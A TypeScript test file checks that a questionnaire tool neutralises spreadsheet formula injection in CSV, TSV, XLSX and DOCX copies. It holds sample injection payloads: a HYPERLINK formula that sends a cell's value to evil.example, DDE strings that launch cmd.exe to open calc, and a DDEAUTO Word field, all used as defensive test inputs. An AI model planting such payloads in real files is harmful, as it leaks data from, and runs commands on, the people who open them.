/**
 * Document text that a spreadsheet would run as a formula (issue #30: `=HYPERLINK(…)`, `+cmd|…`,
 * `-2+3+cmd|…`, `@SUM(…)`, a tab or carriage return in front) comes back as text in every filled copy:
 * CSV and TSV cells get a single quote in front (plain signed numbers stay readable), XLSX cells are
 * typed strings, and a DOCX copy holds the text in runs, never as a field. The CSV Sources cell gives
 * each source its own link.
 */
import { parse as parseCsvText } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import type { RowAnswer } from "../../src/questionnaire/answer/row-answer.js";
import { findQuestions } from "../../src/questionnaire/read/find-questions.js";
import { readQuestionnaireGrid } from "../../src/questionnaire/read/read-questionnaire-grid.js";
import { neutraliseFormula } from "../../src/questionnaire/write/neutralise-formula.js";
import { writeFilledCopy } from "../../src/questionnaire/write/write-filled-copy.js";
import { buildXlsx, questionRows } from "../support/questionnaire-bombs.js";
import { answeredRow, docxWithTable } from "../support/questionnaire-files.js";

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?d="&A2,"Click for details")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

/** Each payload as a copy holds it: a quote in front, and after the tab or CR that starts a cell too (#37). */
const NEUTRALISED = PAYLOADS.map((payload) => `'${payload.replace(/^([\t\r])=/, "$1'=")}`);

/** A row answered with `text`, quoting `text`, citing two pages (so two sources). */
function payloadRow(text: string): RowAnswer {
  return { ...answeredRow("", [3, 7]), answer: text, quote: text };
}

describe("neutraliseFormula", () => {
  it("puts a single quote before what a spreadsheet would run, and leaves text and plain numbers alone", () => {
    expect(PAYLOADS.map(neutraliseFormula)).toEqual(NEUTRALISED);
    expect(
      ["-2", "+3.5", "-1,234.5", "-12%", "-2 500", "Yes, nightly.", "'=quoted already", ""].map(neutraliseFormula),
    ).toEqual(["-2", "+3.5", "-1,234.5", "-12%", "-2 500", "Yes, nightly.", "'=quoted already", ""]);
    expect(["-", "=", "-2-1", "-1e3", "- 2"].map(neutraliseFormula)).toEqual(["'-", "'=", "'-2-1", "'-1e3", "'- 2"]);
  });
});

describe("CSV and TSV filled copies", () => {
  for (const [fileName, delimiter] of [
    ["review.csv", ","],
    ["review.tsv", "\t"],
  ] as const) {
    it(`keeps every payload as text in ${fileName}, each source with its own link`, async () => {
      const lines = ["Question", ...PAYLOADS.map((_, index) => `Is control ${index + 1} in place?`)];
      const bytes = new TextEncoder().encode(`${lines.join("\n")}\n`);
      const read = findQuestions(await readQuestionnaireGrid(bytes, fileName), { maxRows: 5_000 });
      const copy = await writeFilledCopy({
        bytes,
        fileName,
        format: "csv",
        layouts: read.layouts,
        rows: read.questions.map((question, index) => ({
          sheetIndex: 0,
          rowNumber: question.rowNumber,
          answer: payloadRow(PAYLOADS[index] ?? ""),
        })),
      });
      const records = parseCsvText(new TextDecoder().decode(copy.bytes), {
        delimiter,
        relax_column_count: true,
      }) as string[][];
      expect(records[0]).toEqual(["Question", "Answer", "Status", "Sources", "Quote", "Source 2"]);
      expect(records.slice(1).map((record) => [record[1], record[4]])).toEqual(
        NEUTRALISED.map((payload) => [payload, payload]),
      );
      const link = (page: number) =>
        `http://folio.test/files/0b3c2f9e-0000-4000-8000-000000000001?exp=1&sig=abc#page=${page}`;
      expect(records[1]?.[3]).toBe(
        `[1] Security Policy (security-policy.pdf), p. 3 <${link(3)}>\n[2] Security Policy (security-policy.pdf), p. 7 <${link(7)}>`,
      );
      expect(records[1]?.[5]).toBe(`[2] Security Policy (security-policy.pdf), p. 7 <${link(7)}>`);
    });
  }
});

/** The review's sentence (#37): a formula behind a comma, answered into a file of another delimiter. */
const FOREIGN = "Backups are kept for 30 days,=cmd|' /C calc'!A0, per the retention policy.";

/** Whether a cell, as a spreadsheet would take it (spaces and quotes in front dropped), would run. */
function runsAsFormula(cell: string): boolean {
  const text = cell.replace(/^[ "]+/, "");
  return /^[=+\-@]/.test(text) && !/^[+-]?[\d.,%\s]+$/.test(text);
}

describe("a formula behind a foreign delimiter (#37)", () => {
  it("puts a quote after , ; | tab and line breaks too, spaces or quotes between, plain numbers left alone", () => {
    expect(neutraliseFormula(FOREIGN)).toBe(
      "Backups are kept for 30 days,'=cmd|' /C calc'!A0, per the retention policy.",
    );
    expect(
      ["a;=1+1", "a; =1+1", "a|@SUM(1)", "a\t+cmd", 'a, "=cmd', "a\n-cmd", "a;  -  b", "-2, -3.5%; +4|5"].map(
        neutraliseFormula,
      ),
    ).toEqual([
      "a;'=1+1",
      "a; '=1+1",
      "a|'@SUM(1)",
      "a\t'+cmd",
      `a, "'=cmd`,
      "a\n'-cmd",
      "a;  '-  b",
      "-2, -3.5%; +4|5",
    ]);
  });

  for (const [fileName, delimiter] of [
    ["semicolon.csv", ";"],
    ["pipe.csv", "|"],
    ["tab.csv", "\t"],
    ["comma.csv", ","],
  ] as const) {
    it(`quotes every added field of ${fileName}, and no locale's delimiter makes a cell that runs`, async () => {
      const lines = [
        `Question${delimiter}Notes`,
        `Are backups kept?${delimiter}nightly`,
        `Are logs kept?${delimiter}yes`,
      ];
      const bytes = new TextEncoder().encode(`${lines.join("\n")}\n`);
      const read = findQuestions(await readQuestionnaireGrid(bytes, fileName), { maxRows: 5_000 });
      const copy = await writeFilledCopy({
        bytes,
        fileName,
        format: "csv",
        layouts: read.layouts,
        rows: read.questions.map((question) => ({
          sheetIndex: 0,
          rowNumber: question.rowNumber,
          answer: payloadRow(FOREIGN),
        })),
      });
      const text = new TextDecoder().decode(copy.bytes);
      // Every added field quoted, the original fields as they were.
      expect(text.split("\n")[0]).toBe(
        `Question${delimiter}Notes${delimiter}"Answer"${delimiter}"Status"${delimiter}"Sources"${delimiter}"Quote"${delimiter}"Source 2"`,
      );
      const own = parseCsvText(text, { delimiter, relax_column_count: true }) as string[][];
      expect(own[1]?.slice(0, 3)).toEqual(["Are backups kept?", "nightly", neutraliseFormula(FOREIGN)]);
      for (const locale of [",", ";", "|", "\t"]) {
        const cells = (
          parseCsvText(text, { delimiter: locale, relax_column_count: true, relax_quotes: true }) as string[][]
        ).flat();
        expect(cells.filter(runsAsFormula), `${fileName} read with "${locale}"`).toEqual([]);
      }
    });
  }
});

describe("XLSX and DOCX filled copies", () => {
  it("writes the payloads into XLSX cells as typed strings, never formulas", async () => {
    const bytes = buildXlsx([{ name: "Questions", rows: questionRows(PAYLOADS.length) }]);
    const read = findQuestions(await readQuestionnaireGrid(bytes, "review.xlsx"), { maxRows: 5_000 });
    const copy = await writeFilledCopy({
      bytes,
      fileName: "review.xlsx",
      format: "xlsx",
      layouts: read.layouts,
      rows: read.questions.map((question, index) => ({
        sheetIndex: 0,
        rowNumber: question.rowNumber,
        answer: payloadRow(PAYLOADS[index] ?? ""),
      })),
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(copy.bytes) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const answers = PAYLOADS.map((_, index) => sheet?.getCell(index + 2, 3));
    // XML keeps a carriage return in text as a line feed.
    expect(answers.map((cell) => [cell?.type, cell?.value])).toEqual(
      PAYLOADS.map((payload) => [ExcelJS.ValueType.String, payload.replace(/\r/g, "\n")]),
    );
    expect(strFromU8(unzipSync(copy.bytes)["xl/worksheets/sheet1.xml"] ?? new Uint8Array())).not.toContain("<f>");
  });

  it("writes the payloads and Word field syntax into DOCX runs as text, never as fields", async () => {
    const fieldAttempts = [
      ...PAYLOADS,
      '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
      '<w:fldSimple w:instr="HYPERLINK https://evil.example"/>',
    ];
    const bytes = docxWithTable([
      ["Question", "Answer"],
      ...fieldAttempts.map((_, index) => [`Is control ${index + 1} in place?`, ""]),
    ]);
    const read = findQuestions(await readQuestionnaireGrid(bytes, "review.docx"), { maxRows: 5_000 });
    const copy = await writeFilledCopy({
      bytes,
      fileName: "review.docx",
      format: "docx",
      layouts: read.layouts,
      rows: read.questions.map((question, index) => ({
        sheetIndex: 0,
        rowNumber: question.rowNumber,
        answer: payloadRow(fieldAttempts[index] ?? ""),
      })),
    });
    const documentXml = strFromU8(unzipSync(copy.bytes)["word/document.xml"] ?? new Uint8Array());
    expect(documentXml).not.toMatch(/<w:(fldSimple|fldChar|instrText)\b/);
    const grid = await readQuestionnaireGrid(copy.bytes, "review (filled).docx");
    const answers = grid.sheets[0]?.rows.slice(1).map((row) => row.cells[2]);
    // The reader trims each cell and reads a carriage return as a line break, so those two read as their rest.
    expect(answers).toEqual(fieldAttempts.map((text) => text.trim()));
  });
});
